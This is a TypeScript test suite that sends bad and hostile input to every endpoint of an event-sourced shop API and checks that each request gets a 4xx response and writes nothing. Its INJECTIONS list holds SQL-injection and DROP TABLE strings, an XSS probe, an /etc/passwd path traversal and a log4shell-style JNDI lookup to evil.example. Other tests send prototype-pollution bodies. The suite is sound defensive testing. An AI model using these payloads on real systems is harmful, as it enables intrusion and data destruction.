// Hostile and broken requests to every endpoint: each gets a 4xx problem, and nothing is ever written.
import { toJsonSchema } from 'chronicle-es';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { given, KEYS, startShop, type TestShop } from './support.js';

let shop: TestShop;
let eventsBefore: number;

// A valid body per command: each test below breaks it in one way.
const valid: Record<string, Record<string, unknown>> = {
  RegisterCustomer: {
    customerId: 'new-c',
    name: 'New Customer',
    email: 'new@example.com',
    address: { street: 'Main St 1', city: 'Berlin', postalCode: '10115', country: 'DE' },
  },
  UpdateCustomerDetails: { customerId: 'bad-c', name: 'Renamed', email: 'renamed@example.com' },
  ForgetCustomer: { customerId: 'bad-forget' },
  CreateProduct: { productId: 'new-p', sku: 'NEW-P', name: 'New', description: 'Nice', priceCents: 100, currency: 'EUR' },
  ChangeProductPrice: { productId: 'bad-p', priceCents: 200 },
  DeleteProduct: { productId: 'bad-p' },
  RestockProduct: { productId: 'bad-p', quantity: 3 },
  CreateOrder: { orderId: 'new-o', customerId: 'bad-c', lines: [{ productId: 'bad-p', quantity: 1 }] },
  PayOrder: { orderId: 'bad-o' },
  ShipOrder: { orderId: 'bad-o' },
  CancelOrder: { orderId: 'bad-o', reason: 'why not' },
  ExpireOrder: { orderId: 'bad-o' },
  AllocateShipment: { orderId: 'bad-o' },
  ReleaseShipment: { orderId: 'bad-o' },
  NotifyCustomer: { orderId: 'bad-o', topic: 'order-shipped' },
  RaiseLowStockAlert: { productId: 'bad-p', available: 1, threshold: 5 },
  ClearLowStockAlert: { productId: 'bad-p', available: 9 },
};
const validQuery: Record<string, Record<string, unknown>> = {
  GetCustomerById: { customerId: 'bad-c' },
  ListAllProducts: { limit: 5, search: 'new', includeDeleted: false },
  GetOrderStatus: { orderId: 'bad-o' },
  ListOrdersByCustomer: { customerId: 'bad-c', limit: 5 },
  GetInventory: { productId: 'bad-p' },
  GetSalesSummary: { top: 3 },
  ListLowStock: { limit: 5 },
};

const INJECTIONS = [
  "' OR '1'='1",
  '"; DROP TABLE events; --',
  "Robert'); DROP TABLE streams;--",
  '<script>alert(1)</script>',
  '../../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, literally.
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'a\u0000b',
  '\u202Egnp.exe',
  '%00%27',
];
const WRONG_TYPES: unknown[] = [null, 42, -1.5, true, 'text', '', [], {}, [1, 2], { nested: { deeper: 1 } }];

const send = (name: string, body: string, headers: Record<string, string> = {}) =>
  shop.request(`/commands/${name}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-api-key': KEYS.admin, ...headers },
    body,
  });

function expectProblem(res: { status: number; body: any; headers: Headers }, status: number | 'any4xx', label: string) {
  if (status === 'any4xx') {
    expect(res.status, `${label} → ${res.status} ${JSON.stringify(res.body).slice(0, 200)}`).toBeGreaterThanOrEqual(400);
    expect(res.status, label).toBeLessThan(500);
  } else {
    expect(res.status, `${label} → ${JSON.stringify(res.body).slice(0, 200)}`).toBe(status);
  }
  expect(res.headers.get('content-type'), label).toContain('application/problem+json');
  expect(JSON.stringify(res.body), label).not.toMatch(/\bat .*\.(ts|js):\d+/);
}

beforeAll(async () => {
  shop = await startShop();
  await given(shop, { customers: ['bad-c'], products: [{ productId: 'bad-p', stock: 5 }] });
  await shop.command('CreateOrder', { orderId: 'bad-o', customerId: 'bad-c', lines: [{ productId: 'bad-p', quantity: 1 }] });
  // 4 of 5 left: the restock-alerts process raises an alert; counted before, not against the bad input.
  eventsBefore = await shop.settle();
});
afterAll(() => shop.close());

describe('bad input to every command', () => {
  it('knows every command the Shop registers', () => {
    expect(Object.keys(valid).sort()).toEqual(
      shop.shop.commandBus
        .definitions()
        .map((d) => d.name)
        .sort(),
    );
    expect(Object.keys(validQuery).sort()).toEqual(
      shop.shop
        .queryBus!.definitions()
        .map((d) => d.name)
        .sort(),
    );
  });

  it('malformed JSON, non-objects, missing and unknown fields → 400', async () => {
    for (const name of Object.keys(valid)) {
      for (const body of ['{"a":', '{', 'nul', "{'single': 'quotes'}", '{"a":1}}', '[]', '"text"', '42', 'null', '{}']) {
        expectProblem(await send(name, body), 400, `${name} ${body}`);
      }
      const definition = shop.shop.commandBus.definitions().find((d) => d.name === name)!;
      const required = (toJsonSchema(definition.schema).required ?? []) as string[];
      expect(required.length, name).toBeGreaterThan(0);
      for (const field of required) {
        const { [field]: _, ...missing } = valid[name];
        expectProblem(await send(name, JSON.stringify(missing)), 400, `${name} without ${field}`);
      }
      expectProblem(await send(name, JSON.stringify({ ...valid[name], isAdmin: true })), 400, `${name} + unknown field`);
    }
  });

  it('every field with a wrong type → 400', async () => {
    for (const [name, body] of Object.entries(valid)) {
      for (const field of Object.keys(body)) {
        for (const wrong of WRONG_TYPES) {
          if (typeof wrong === typeof body[field] && typeof wrong !== 'object') continue;
          expectProblem(
            await send(name, JSON.stringify({ ...body, [field]: wrong })),
            400,
            `${name}.${field} = ${JSON.stringify(wrong)}`,
          );
        }
      }
    }
  });

  it('a lone UTF-16 surrogate in any string field → 400 naming the field, stored nowhere', async () => {
    let byUnicodeCheck = 0;
    for (const [name, body] of Object.entries(valid)) {
      for (const [field, value] of Object.entries(body)) {
        if (typeof value !== 'string') continue;
        // JSON.stringify writes a lone surrogate as the escape \ud800, exactly as a hostile client would send it.
        const res = await send(name, JSON.stringify({ ...body, [field]: `${value.slice(0, 3)}\ud800x` }));
        expectProblem(res, 400, `${name}.${field} with a lone surrogate`);
        // Fields with a pattern refuse it there; free text passes the schema and is refused as ill-formed Unicode.
        const errors = res.body.errors as Array<{ path: string; message: string }>;
        expect(new Set(errors.map((e) => e.path)), `${name}.${field}`).toEqual(new Set([field]));
        if (errors.some((e) => e.message.includes('lone surrogate'))) byUnicodeCheck++;
      }
    }
    // Names, e-mail addresses and reasons have no pattern: the Unicode check is what refused those.
    expect(byUnicodeCheck).toBeGreaterThan(3);
  });

  it('40 000 unknown keys → a bounded 400', async () => {
    const keys = Object.fromEntries(Array.from({ length: 40_000 }, (_, i) => [`k${i}`, 1]));
    const res = await send('RestockProduct', JSON.stringify({ ...valid.RestockProduct, ...keys }));
    expectProblem(res, 400, '40 000 unknown keys');
    expect(JSON.stringify(res.body).length).toBeLessThan(10_000);
  });

  it('injection-looking strings in every string field → 400, stored nowhere', async () => {
    for (const [name, body] of Object.entries(valid)) {
      for (const injection of INJECTIONS) {
        const hostile = Object.fromEntries(Object.entries(body).map(([k, v]) => [k, typeof v === 'string' ? injection : v]));
        expectProblem(await send(name, JSON.stringify(hostile)), 400, `${name} ${JSON.stringify(injection)}`);
      }
    }
  });

  it('control characters in names, addresses and descriptions → 400 naming the field, stored nowhere', async () => {
    for (const bad of ['a\u0000b', 'tab\there', 'bell\u0007', 'del\u007f']) {
      const res = await send('RegisterCustomer', JSON.stringify({ ...valid.RegisterCustomer, name: bad }));
      expectProblem(res, 400, `name ${JSON.stringify(bad)}`);
      expect(JSON.stringify(res.body.errors), JSON.stringify(bad)).toContain('name');
      const street = { ...(valid.RegisterCustomer.address as object), street: bad };
      expectProblem(
        await send('RegisterCustomer', JSON.stringify({ ...valid.RegisterCustomer, address: street })),
        400,
        'street',
      );
      const product = { ...valid.CreateProduct, description: bad.replace('\t', '\u0000') };
      expectProblem(await send('CreateProduct', JSON.stringify(product)), 400, `description ${JSON.stringify(bad)}`);
    }
  });

  it('huge bodies → 413, oversized arrays → 400 or 413, deep nesting and prototype pollution → 400', async () => {
    const huge = JSON.stringify({ ...valid.RegisterCustomer, name: 'x'.repeat(2 * 1024 * 1024) });
    const manyLines = (n: number) =>
      JSON.stringify({ ...valid.CreateOrder, lines: Array.from({ length: n }, (_, i) => ({ productId: `p${i}`, quantity: 1 })) });
    let deep = '1';
    for (let i = 0; i < 5000; i++) deep = `{"a":${deep}}`;
    for (const name of Object.keys(valid)) {
      expectProblem(await send(name, huge), 413, `${name} huge`);
      expectProblem(await send(name, `{"__proto__":{"roles":["admin"]},"x":1}`), 400, `${name} __proto__`);
      expectProblem(await send(name, `{"constructor":{"prototype":{"admin":true}}}`), 400, `${name} constructor.prototype`);
      expectProblem(await send(name, deep), 400, `${name} deep`);
    }
    expectProblem(await send('CreateOrder', manyLines(101)), 400, 'CreateOrder 101 lines');
    expectProblem(await send('CreateOrder', manyLines(20_000)), 400, 'CreateOrder 20k lines');
    expectProblem(await send('CreateOrder', manyLines(60_000)), 413, 'CreateOrder 60k lines');
  });

  it('wrong content types → 415, unknown commands → 404, other methods → 404/405', async () => {
    for (const name of Object.keys(valid)) {
      expectProblem(await send(name, JSON.stringify(valid[name]), { 'content-type': 'text/plain' }), 415, `${name} text/plain`);
      expectProblem(await send(name, 'a=1', { 'content-type': 'application/x-www-form-urlencoded' }), 415, `${name} form`);
    }
    for (const name of ['DropTables', '../commands/CreateOrder', 'createorder', '__proto__', 'constructor', 'x'.repeat(5000)]) {
      expectProblem(await send(encodeURIComponent(name), '{}'), 'any4xx', `unknown ${name.slice(0, 20)}`);
    }
    expectProblem(
      await shop.request('/commands/CreateOrder', { headers: { 'x-api-key': KEYS.admin } }),
      'any4xx',
      'GET a command',
    );
    expectProblem(
      await send('CreateOrder', JSON.stringify(valid.CreateOrder), { 'idempotency-key': 'key with spaces' }),
      400,
      'bad key',
    );
  });
});

describe('bad input to every query', () => {
  const get = (name: string, qs: string) => shop.request(`/queries/${name}?${qs}`, { headers: { 'x-api-key': KEYS.admin } });
  const post = (name: string, body: string, type = 'application/json') =>
    shop.request(`/queries/${name}`, { method: 'POST', headers: { 'content-type': type, 'x-api-key': KEYS.admin }, body });

  it('missing, unknown, mistyped and malformed parameters → 400', async () => {
    for (const [name, params] of Object.entries(validQuery)) {
      expectProblem(await get(name, 'unexpected=1'), 400, `${name}?unexpected`);
      expectProblem(await post(name, '{"a":'), 400, `${name} malformed`);
      expectProblem(await post(name, '[1,2]'), 400, `${name} array body`);
      for (const field of Object.keys(params)) {
        for (const wrong of WRONG_TYPES) {
          if (typeof wrong === typeof params[field] && typeof wrong !== 'object') continue;
          expectProblem(
            await post(name, JSON.stringify({ ...params, [field]: wrong })),
            400,
            `${name}.${field} = ${JSON.stringify(wrong)}`,
          );
        }
      }
    }
    expectProblem(await get('GetCustomerById', ''), 400, 'missing customerId');
    expectProblem(await get('ListAllProducts', 'limit=abc'), 400, 'limit=abc');
    expectProblem(await get('ListAllProducts', 'limit=1e9'), 400, 'limit=1e9');
    expectProblem(await get('ListAllProducts', 'includeDeleted=maybe'), 400, 'includeDeleted=maybe');
    expectProblem(await get('ListAllProducts', `cursor=${'A'.repeat(300)}`), 400, 'long cursor');
    expectProblem(await get('ListAllProducts', 'cursor=%27%20OR%201%3D1'), 400, 'injected cursor');
    expectProblem(
      await get('ListOrdersByCustomer', `customerId=bad-c&cursor=${Buffer.from('"x"').toString('base64url')}`),
      400,
      'forged cursor',
    );
    expectProblem(
      await get('ListLowStock', `cursor=${Buffer.from('[1]').toString('base64url')}`),
      400,
      'forged low-stock cursor',
    );
    expectProblem(await get('GetSalesSummary', 'minPosition=-1'), 400, 'negative minPosition');
    expectProblem(await get('GetSalesSummary', 'minPosition=1&minPosition=2'), 400, 'repeated minPosition');
    expectProblem(await post('GetSalesSummary', 'x'.repeat(2 * 1024 * 1024)), 413, 'huge query body');
    expectProblem(await post('GetSalesSummary', '{}', 'text/plain'), 415, 'query text/plain');
    expectProblem(await get('DropTables', ''), 404, 'unknown query');
  });

  it('injection-looking ids → 400; injection-looking search text is just text', async () => {
    for (const injection of INJECTIONS) {
      const q = encodeURIComponent(injection);
      expectProblem(await get('GetCustomerById', `customerId=${q}`), 400, `customerId ${injection}`);
      expectProblem(await get('GetOrderStatus', `orderId=${q}`), 400, `orderId ${injection}`);
      const search = await get('ListAllProducts', `search=${q}`);
      // NUL cannot reach PostgreSQL text: refused at the boundary on every store, never a 500 from one of them.
      if (injection.includes('\u0000')) {
        expectProblem(search, 400, `search ${JSON.stringify(injection)}`);
        continue;
      }
      if (injection.trim() === '') continue;
      expect(search.status, `search ${injection}`).toBe(200);
      expect(search.body.items, `search ${injection}`).toEqual([]);
    }
  });
});

describe('afterwards', () => {
  it('not one event was written by any of it', async () => {
    expect(await shop.eventCount()).toBe(eventsBefore);
    expect((await shop.query('GetInventory', { productId: 'bad-p' })).body).toMatchObject({ onHand: 5, reserved: 1 });
  });

  it('a nasty but valid name is stored and returned verbatim', async () => {
    const name = "Robert'); DROP TABLE customers;-- <b>\u202E</b>";
    const res = await shop.command('RegisterCustomer', { customerId: 'bobby-tables', name, email: 'bobby@example.com' });
    expect(res.status).toBe(200);
    const read = await shop.query('GetCustomerById', { customerId: 'bobby-tables', minPosition: res.body.position });
    expect(read.body.name).toBe(name);
  });
});
